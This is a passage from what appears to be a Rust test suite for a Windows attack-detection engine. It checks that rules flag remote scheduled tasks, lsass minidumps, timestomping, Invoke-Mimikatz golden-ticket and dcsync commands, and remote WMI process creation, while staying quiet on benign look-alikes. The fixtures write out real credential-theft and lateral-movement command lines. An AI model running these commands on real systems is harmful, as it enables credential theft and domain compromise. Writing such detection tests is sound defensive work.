            task_update("alice", "\\OneDrive Standalone Update Task-S-1-5-21-1", "C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"),
        ),
        (
            "a task changed to a program under Program Files",
            task_update("admin", "\\Backup", "C:\\Program Files\\Backup\\run.exe"),
        ),
    ] {
        assert_quiet(what, vec![obs], "schtasks", None);
    }
    assert_found(
        "a task registered on another host from PowerShell",
        vec![sysmon_start(
            POWERSHELL,
            "PowerShell.EXE",
            "powershell.exe -c \"$s = New-CimSession -ComputerName fs01; Register-ScheduledTask -TaskName u -Action $a -CimSession $s\"",
            CMD,
        )],
        "schtasks:source",
        Likely,
    );
    assert_found(
        "the same, typed as a script block",
        vec![script_block(
            "Register-ScheduledTask -TaskName u -Action $a -User SYSTEM -CimSession $s",
        )],
        "schtasks:source",
        Likely,
    );
    for (what, text) in [
        (
            "the ScheduledTasks module's own code",
            "function Register-ScheduledTask {\n [CmdletBinding()] param([Microsoft.Management.Infrastructure.CimSession[]] $CimSession)",
        ),
        ("a task registered on this host", "Register-ScheduledTask -TaskName u -Action $a"),
    ] {
        assert_quiet(what, vec![script_block(text)], "schtasks", None);
    }
    assert_found(
        "Out-Minidump's body without its name",
        vec![script_block(
            "$WER = [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting')\n\
             $Method = $WERNativeMethods.GetMethod('MiniDumpWriteDump', $Flags)",
        )],
        "out_minidump:source",
        Likely,
    );
    assert_found(
        "MiniDumpWriteDump on lsass",
        vec![script_block("$p = Get-Process lsass; [Dbg]::MiniDumpWriteDump($p.Handle, $p.Id, $fs.Handle, 2, 0, 0, 0)")],
        "out_minidump:source",
        Likely,
    );
    assert_quiet(
        "a support script dumping a hung program",
        vec![script_block(
            "[DllImport(\"dbghelp.dll\")] static extern bool MiniDumpWriteDump(...); # dump $app",
        )],
        "out_minidump",
        None,
    );
    assert_found(
        "a creation time set in a script block",
        vec![script_block(
            "$f = Get-Item C:\\x\\kxwn.lock; $f.CreationTime = $ref.CreationTime",
        )],
        "timestomp:source",
        Possible,
    );
    assert_quiet(
        "a script block reading creation times",
        vec![script_block("Get-ChildItem C:\\logs | Where-Object { $_.CreationTime -lt (Get-Date).AddDays(-30) } | Remove-Item")],
        "timestomp",
        None,
    );
    let creation_time_changed = |image: &str| {
        record(
            SYSMON,
            2,
            &[
                ("Image", image),
                ("TargetFilename", "C:\\Users\\a\\AppData\\Roaming\\x.dll"),
                ("CreationUtcTime", "2010-01-01 00:00:00.000"),
                ("PreviousCreationUtcTime", "2024-01-01 00:00:00.000"),
            ],
        )
    };
    assert_found(
        "PowerShell setting a creation time",
        vec![creation_time_changed(POWERSHELL)],
        "timestomp:source",
        Possible,
    );
    assert_quiet(
        "PowerShell setting a creation time, alone",
        vec![creation_time_changed(POWERSHELL)],
        "timestomp",
        Some(Possible),
    );
    assert_quiet(
        "a browser setting a creation time",
        vec![creation_time_changed(
            "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
        )],
        "timestomp",
        None,
    );
}

/// A technique the sheets show through mimikatz.exe is the same step when
/// Invoke-Mimikatz runs its command: both tools are named, and a script's help text
/// quoting the command names neither technique.
#[test]
fn techniques_run_through_invoke_mimikatz_name_both() {
    let _review = Review;
    for (command, tool) in [
        ("kerberos::golden /domain:corp.local /sid:S-1-5-21-1 /rc4:00 /user:x /ptt", "golden_ticket"),
        ("kerberos::golden /domain:corp.local /sid:S-1-5-21-1 /target:fs01 /service:cifs /rc4:00 /user:x", "silver_ticket"),
        ("lsadump::dcsync /domain:corp.local /user:krbtgt", "dcsync"),
    ] {
        let typed = format!("Invoke-Mimikatz -Command '\"{command}\"'");
        for obs in [
            script_block(&typed),
            sysmon_start(POWERSHELL, "PowerShell.EXE", &format!("powershell.exe -c \"{typed}\""), CMD),
        ] {
            assert_found(command, vec![obs.clone()], &format!("{tool}:source"), Likely);
            assert_found(command, vec![obs], "invoke_mimikatz:source", Likely);
        }
    }
    assert_quiet(
        "a silver ticket is not a golden one",
        vec![script_block(
            "Invoke-Mimikatz -Command 'kerberos::golden /target:fs01 /service:cifs /rc4:00'",
        )],
        "golden_ticket",
        None,
    );
    let help = "function Invoke-Mimikatz {\n<# .EXAMPLE\n Invoke-Mimikatz -Command 'kerberos::golden /ptt' #>";
    for tool in ["golden_ticket", "silver_ticket", "dcsync"] {
        assert_quiet(
            "help text quoting a command",
            vec![script_block(help)],
            tool,
            None,
        );
    }
}

/// Remote WMI process creation asked for from PowerShell is the source side of the
/// behaviour the destination already calls `wmic`; local calls and a module's code
/// that merely names the cmdlet say nothing.
#[test]
fn remote_wmi_from_powershell_is_the_wmic_source() {
    let _review = Review;
    for typed in [
        "Invoke-WmiMethod -ComputerName fs01 -Class Win32_Process -Name Create -ArgumentList 'cmd /c calc'",
        "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='calc'} -CimSession $s",
        "([WMICLASS]'\\\\fs01\\root\\cimv2:Win32_Process').Create('calc')",
    ] {
        assert_found(typed, vec![script_block(typed)], "wmic:source", Likely);
        assert_found(
            typed,
            vec![sysmon_start(POWERSHELL, "PowerShell.EXE", &format!("powershell.exe -c \"{typed}\""), CMD)],
            "wmic:source",
            Likely,
        );
    }
    for (what, text) in [
        ("a local WMI call", "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc'"),
        (
            "a module's code naming the cmdlet",
            "function Invoke-Remote { param($ComputerName) Invoke-WmiMethod -Class Win32_Process -ComputerName $ComputerName }",
        ),
    ] {
        assert_quiet(what, vec![script_block(text)], "wmic", None);
    }
}
